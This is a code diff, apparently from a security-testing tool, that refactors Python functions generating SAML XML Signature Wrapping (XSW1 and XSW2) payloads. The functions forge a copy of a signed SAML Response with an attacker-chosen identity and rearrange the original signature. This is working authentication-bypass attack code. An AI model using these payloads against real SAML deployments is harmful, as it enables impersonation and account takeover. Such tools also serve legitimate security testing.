@@ -40,7 +40,16 @@ def _parts(xml: bytes) -> tuple[etree._Element, etree._Element]:
     return response, assertion
 
 
-def _evil_copy(element: etree._Element, name_id: str, *, new_id: bool, keep_signature: bool) -> etree._Element:
+def _without_signature(element: etree._Element) -> etree._Element:
+    kept = copy.deepcopy(element)
+    for signature in kept.findall(_SIGNATURE):
+        kept.remove(signature)
+    return kept
+
+
+def _evil_copy(
+    element: etree._Element, name_id: str, *, new_id: bool, keep_signature: bool
+) -> etree._Element:
     evil = copy.deepcopy(element)
     if not keep_signature:
         for signature in evil.findall(_SIGNATURE):
@@ -60,8 +69,7 @@ def _xsw1(xml: bytes, name_id: str, new_id: bool) -> bytes:
     evil = _evil_copy(original, name_id, new_id=new_id, keep_signature=False)
     moved = copy.deepcopy(signature)
     obj = etree.SubElement(moved, qname(NS_DS, "Object"))
-    kept = copy.deepcopy(original)
-    kept.remove(kept.find(_SIGNATURE))
+    kept = _without_signature(original)
     obj.append(kept)
     evil.insert(1, moved)
     return etree.tostring(evil)
@@ -74,8 +82,7 @@ def _xsw2(xml: bytes, name_id: str, new_id: bool) -> bytes:
     if signature is None:
         raise ValueError("XSW2 needs a signed Response")
     evil = _evil_copy(original, name_id, new_id=new_id, keep_signature=False)
-    kept = copy.deepcopy(original)
-    kept.remove(kept.find(_SIGNATURE))
+    kept = _without_signature(original)
     evil.insert(1, copy.deepcopy(signature))
     evil.insert(1, kept)
     return etree.tostring(evil)
